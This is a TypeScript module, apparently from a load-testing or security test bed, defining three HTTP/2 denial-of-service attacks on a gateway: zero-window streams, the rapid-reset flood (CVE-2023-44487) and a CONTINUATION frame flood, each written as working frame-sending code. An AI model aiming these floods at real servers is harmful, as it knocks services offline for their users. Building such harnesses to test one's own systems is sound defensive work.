import type { Socket } from 'node:net';
import { connectTo } from '../bed/connection.ts';
import { encodeFrame, flags, frameTypes, greeting, headerBlock, settingIds } from '../protocols/http2-frames.ts';
import { type Attack, type AttackContext, attackerAddress, holdOpen, pause, repeat } from './attack.ts';

const request = (path: string, more: [string, string][] = []): Buffer =>
  headerBlock([[':method', 'GET'], [':scheme', 'https'], [':authority', 'localhost'], [':path', path], ...more]);

const headers = (stream: number, block: Buffer, bits: number): Buffer =>
  encodeFrame({ type: frameTypes.headers, flags: bits, stream, payload: block });

async function connect({ gateway }: AttackContext, window?: number): Promise<Socket> {
  const socket = await connectTo(gateway, 'h2', attackerAddress);
  socket.resume().write(window === undefined ? greeting() : greeting([[settingIds.initialWindowSize, window]], 0));
  return socket;
}

/** Streams whose answers may not be sent: each keeps what was answered. */
export const windowZero: Attack = {
  name: 'HTTP/2 streams with window 0',
  run: (context) =>
    holdOpen(context, {
      most: 26,
      perSecond: 5,
      open: async () => {
        const socket = await connect(context, 0);
        const block = request('/api/openapi.json');
        const all = Array.from({ length: 250 }, (_, index) =>
          headers(1 + 2 * index, block, flags.endHeaders | flags.endStream),
        );
        socket.write(Buffer.concat(all));
        context.count(250);
        return socket;
      },
    }),
};

/** Requests that are cancelled at once (CVE-2023-44487). */
export const rapidReset: Attack = {
  name: 'HTTP/2 rapid reset',
  run: (context) =>
    repeat(context.signal, 200, async () => {
      const socket = await connect(context);
      const block = request('/api/v1/auth/me', [['authorization', `Bearer ${context.attacker.token}`]]);
      const cancel = Buffer.from([0, 0, 0, 8]);
      let stream = 1;
      while (!socket.destroyed && !context.signal.aborted && stream < 8_000) {
        const parts: Buffer[] = [];
        for (let index = 0; index < 50; index++, stream += 2) {
          parts.push(
            headers(stream, block, flags.endHeaders | flags.endStream),
            encodeFrame({ type: frameTypes.resetStream, flags: 0, stream, payload: cancel }),
          );
        }
        socket.write(Buffer.concat(parts));
        context.count(50);
        await pause(context.signal, 50);
      }
      socket.destroy();
    }),
};

/** A header block without an end (CVE-2024-27983, CVE-2024-28182). */
export const continuationFlood: Attack = {
  name: 'HTTP/2 CONTINUATION flood',
  run: (context) =>
    repeat(context.signal, 200, async () => {
      const socket = await connect(context);
      socket.write(headers(1, request('/'), 0));
      const payload = headerBlock([['x-flood', 'a'.repeat(1_000)]]);
      const frame = encodeFrame({ type: frameTypes.continuation, flags: 0, stream: 1, payload });
      for (let round = 0; round < 200 && !socket.destroyed && !context.signal.aborted; round++) {
        socket.write(Buffer.concat(Array.from({ length: 20 }, () => frame)));
        context.count(20);
        await pause(context.signal, 20);
      }
      socket.destroy();
    }),
};
